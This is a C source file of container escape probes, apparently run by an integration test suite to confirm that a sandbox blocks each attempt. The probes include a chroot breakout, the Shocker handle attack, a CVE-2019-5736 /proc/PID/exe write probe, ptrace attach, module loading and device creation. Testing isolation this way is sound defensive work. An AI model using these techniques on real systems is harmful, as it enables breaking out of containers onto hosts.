/* Escape attempts, one per subcommand, run inside a container by tests/integration/test_escapes.py.
 * Each prints "ok" if the attack worked, or the errno name that stopped it; built with gcc -static. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int report(int ret) {
    if (ret >= 0) { puts("ok"); return 0; }
    const char *name = strerrorname_np(errno);
    puts(name ? name : "unknown");
    return 0;
}

/* The classic chroot breakout: chroot into a subdirectory while the cwd stays outside it, climb
 * with "..", chroot there. Then look for a file that exists only on the host. */
static int chroot_breakout(const char *host_marker) {
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") < 0) return report(-1);
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") < 0) return report(-1);
    return report(open(host_marker, O_RDONLY));
}

/* Shocker: open_by_handle_at with a handle for inode 2 (the root of most filesystems). */
static int shocker(void) {
    struct { unsigned int bytes; int type; unsigned char f[8]; } h = { 8, 1, {2, 0, 0, 0, 0, 0, 0, 0} };
    return report(syscall(SYS_open_by_handle_at, AT_FDCWD, &h, O_RDONLY));
}

static int write_file(const char *path) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return report(-1);
    return report(write(fd, "1", 1) == 1 ? 0 : -1);
}

static int do_mount(void) { return report(mount("none", "/mnt", "tmpfs", 0, NULL)); }
static int cgroup_mount(void) { return report(mount("cgroup", "/mnt", "cgroup", 0, "rdma")); }
static int load_module(void) { return report(syscall(SYS_finit_module, 0, "", 0)); }
static int block_device(void) { return report(mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0))); }
static int ptrace_outside(const char *pid) { return report(ptrace(PTRACE_ATTACH, atoi(pid), 0, 0)); }
static int new_userns(void) { return report(unshare(CLONE_NEWUSER)); }
static int new_userns_clone(void) {
    pid_t pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    return report(pid);
}
static int keyctl_call(void) { return report(syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0)); }

/* Print the description of our session keyring ("keyring;uid;gid;perm;name"). */
static int session_keyring(void) {
    char buf[256] = {0};
    long id = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
    if (id < 0 || syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, id, buf, sizeof buf - 1) < 0) return report(-1);
    puts(buf);
    return 0;
}

/* Ask for `count` block devices; print how many calls failed with EPERM. */
static int mknod_flood(int count) {
    int eperm = 0;
    for (int i = 0; i < count; i++)
        if (mknod("/tmp/flood", S_IFBLK | 0600, makedev(8, 0)) < 0 && errno == EPERM) eperm++;
    printf("%d\n", eperm);
    return 0;
}

/* CVE-2019-5736: for `seconds`, try to open every other process's /proc/PID/exe for writing,
 * directly and by reopening an O_PATH handle. Print "wrote=N seen=M" (M: other processes seen). */
#include <dirent.h>
#include <time.h>
static int exe_watch(int seconds) {
    int wrote = 0, seen = 0;
    time_t end = time(NULL) + seconds;
    pid_t self = getpid();
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            char path[64], via[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            seen++;
            int fd = open(path, O_WRONLY);
            if (fd >= 0) { wrote++; close(fd); }
            int p = open(path, O_PATH);
            if (p >= 0) {
                snprintf(via, sizeof via, "/proc/self/fd/%d", p);
                int w = open(via, O_WRONLY);
                if (w >= 0) { wrote++; close(w); }
                close(p);
            }
        }
        if (d) closedir(d);
    }
    printf("wrote=%d seen=%d\n", wrote, seen);
    return 0;
}

/* Allocate and touch `mib` MiB, one MiB at a time; print how far it got before failing. */
static int memhog(int mib) {
    for (int i = 0; i < mib; i++) {
        char *p = malloc(1 << 20);
        if (!p) { printf("malloc failed at %d\n", i); return 1; }
        memset(p, 1, 1 << 20);
    }
    printf("allocated %d\n", mib);
    return 0;
}

/* A UDP echo server on PORT: replies "udp:" + the datagram (busybox has no UDP server). */
static int udp_echo(int port) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0) { perror("udp-echo"); return 1; }
    for (;;) {
        char buf[1500] = "udp:";
        struct sockaddr_in from;
        socklen_t len = sizeof from;
        ssize_t n = recvfrom(s, buf + 4, sizeof buf - 4, 0, (struct sockaddr *)&from, &len);
        if (n >= 0) sendto(s, buf, n + 4, 0, (struct sockaddr *)&from, len);
    }
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *cmd = argv[1], *arg = argc > 2 ? argv[2] : "";
    if (!strcmp(cmd, "chroot")) return chroot_breakout(arg);
    if (!strcmp(cmd, "shocker")) return shocker();
    if (!strcmp(cmd, "write")) return write_file(arg);
    if (!strcmp(cmd, "mount")) return do_mount();
    if (!strcmp(cmd, "cgroup-mount")) return cgroup_mount();
    if (!strcmp(cmd, "module")) return load_module();
    if (!strcmp(cmd, "blockdev")) return block_device();
    if (!strcmp(cmd, "ptrace")) return ptrace_outside(arg);
    if (!strcmp(cmd, "userns")) return new_userns();
    if (!strcmp(cmd, "userns-clone")) return new_userns_clone();
    if (!strcmp(cmd, "keyctl")) return keyctl_call();
    if (!strcmp(cmd, "session-keyring")) return session_keyring();
    if (!strcmp(cmd, "mknod-flood")) return mknod_flood(atoi(arg));
    if (!strcmp(cmd, "exe-watch")) return exe_watch(atoi(arg));
    if (!strcmp(cmd, "memhog")) return memhog(atoi(arg));
    if (!strcmp(cmd, "udp-echo")) return udp_echo(atoi(arg));
    return 2;
}
